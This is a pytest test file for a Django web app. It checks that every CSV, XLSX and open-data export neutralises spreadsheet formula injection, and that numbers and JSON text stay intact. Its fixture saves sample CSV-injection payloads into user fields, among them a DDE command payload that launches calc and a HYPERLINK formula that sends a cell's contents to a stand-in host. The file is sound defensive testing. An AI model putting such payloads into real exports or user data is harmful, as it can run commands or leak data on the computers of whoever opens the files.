"""No download can run a formula (OWASP, CSV injection): text saved anywhere reaches every
CSV with a leading ' when a spreadsheet would take it for a formula, and every XLSX as a
text cell, never a formula; numbers stay numbers, and JSON keeps text exactly."""

import csv
import io
import json

import pytest
from openpyxl import load_workbook

from actions.models import Action, Agency, Initiative
from actions.services import action_create, action_update
from core.exports import csv_safe
from stats import services as stats_services
from stats.models import Ward, WardImport, WardSet

# The six ways a spreadsheet may take text for a formula.
TEXTS = ["=1+2", "+1+2", "-1+2", "@SUM(1+2)", "\t=1+2", "\r=1+2"]
HYPERLINK = '=HYPERLINK("http://example.invalid/?"&A2, "Click")'


@pytest.fixture
def tainted(cast, ward_figures):
    """Each text saved where people can type: updates, a target, a timescale, an action
    (and so the audit trail), an agency's name, a priority's title and a ward import's
    source."""
    coordinator = cast.coordinator
    rows = list(Action.objects.filter(priority__number=1).order_by("position"))
    for row, text in zip(rows, TEXTS, strict=False):
        action_update(action=row, user=coordinator, version=row.version, data={"update": text})
    row = Action.objects.get(pk=rows[0].pk)
    action_update(
        action=row,
        user=coordinator,
        version=row.version,
        data={"target": HYPERLINK, "timescale": "@now"},
    )
    action_create(
        priority=row.priority,
        user=coordinator,
        data={"action": "=cmd|' /C calc'!A0", "lead_text": "DBC", "target": "-", "timescale": "+"},
    )
    Agency.objects.filter(short_name="DBC").update(name="=DBC()")
    row.priority.__class__.objects.filter(pk=row.priority_id).update(title="+Title")
    ward_import = stats_services.ward_import_create(
        ward_set=WardSet.objects.get(),
        kind=WardImport.Kind.COUNTS,
        file_name="counts.csv",
        data=b"ward,month,crime_type,count\nBoxmoor,2012-05,Burglary,3\n",
        source="@SUM(source)",
    )
    stats_services.ward_import_run(ward_import_id=ward_import.pk)
    return cast


def downloads(tainted) -> list[str]:
    initiative = Initiative.objects.get(name__startswith="Instigate Joint Agency")
    ward = Ward.objects.get(name="Boxmoor")
    return [
        "/years/2011-12/priorities/1/",
        "/agencies/",
        "/agencies/dbc/",
        initiative.get_absolute_url(),
        "/audit/",
        "/county/",
        "/wards/",
        ward.get_absolute_url(),
        ward.get_absolute_url() + "months/",
    ]


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def cells_of_csv(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def cells_of_xlsx(content: bytes):
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def test_csv_safe_marks_text_a_spreadsheet_would_run_and_nothing_else():
    assert [csv_safe(text) for text in TEXTS] == ["'" + text for text in TEXTS]
    assert csv_safe("Dacorum") == "Dacorum"
    assert csv_safe("") == ""
    assert csv_safe(-10.2) == -10.2
    assert csv_safe(None) is None


def test_every_csv_download_neutralises_every_formula(client, tainted):
    client.force_login(tainted.coordinator)
    found = []
    for path in downloads(tainted):
        response = client.get(path, {"_export": "csv"})
        assert response.status_code == 200, path
        cells = cells_of_csv(response.content)
        for cell in cells:  # a negative number is a number: no spreadsheet runs it
            formula = cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not is_number(cell)
            assert not formula, (path, cell)
        found += cells
    for text in [*TEXTS, HYPERLINK, "@now", "=cmd|' /C calc'!A0", "=DBC()"]:
        assert "'" + text in found, text


def test_every_xlsx_download_has_text_cells_and_no_formula(client, tainted):
    client.force_login(tainted.coordinator)
    values = []
    for path in downloads(tainted):
        response = client.get(path, {"_export": "xlsx"})
        assert response.status_code == 200, path
        for cell in cells_of_xlsx(response.content):
            assert cell.data_type != "f", (path, cell.coordinate, cell.value)
            values.append(cell.value)
    # XML reads a carriage return back as a line feed: "\r=1+2" is "\n=1+2", still text.
    for text in [*TEXTS, HYPERLINK, "@now", "=cmd|' /C calc'!A0", "=DBC()"]:
        assert text.replace("\r", "\n") in values, text
    assert any(isinstance(value, str) and "@SUM(source)" in value for value in values)


def test_numbers_stay_numbers(client, tainted):
    csv_rows = list(
        csv.DictReader(
            io.StringIO(client.get("/county/", {"_export": "csv"}).content.decode("utf-8-sig"))
        )
    )
    vehicle = next(row for row in csv_rows if row["Crime category"] == "Vehicle Crime")
    assert float(vehicle["% change"]) < 0  # a number, not neutralised
    assert int(vehicle["Position in county, crimes per 1000 population"]) >= 1
    assert vehicle["% change as published"].startswith("'-")  # text, neutralised

    cells = cells_of_xlsx(client.get("/county/", {"_export": "xlsx"}).content)
    changes = [cell for cell in cells if cell.column == 2 and cell.row > 1]
    assert changes
    assert all(cell.data_type == "n" for cell in changes)
    assert any(cell.value < 0 for cell in changes)


def test_open_data_csv_neutralises_and_json_keeps_the_text_exactly(client, tainted):
    rows = list(
        csv.DictReader(
            io.StringIO(client.get("/open-data/v1/actions.csv").content.decode("utf-8-sig"))
        )
    )
    updates = {row["update"] for row in rows}
    assert {"'" + text for text in TEXTS} <= updates
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    agencies = client.get("/open-data/v1/agencies.csv").content.decode("utf-8-sig")
    assert "'=DBC()" in agencies

    data = json.loads(client.get("/open-data/v1/actions.json").content)
    assert set(TEXTS) <= {row["update"] for row in data["rows"]}
    assert HYPERLINK in {row["target"] for row in data["rows"]}
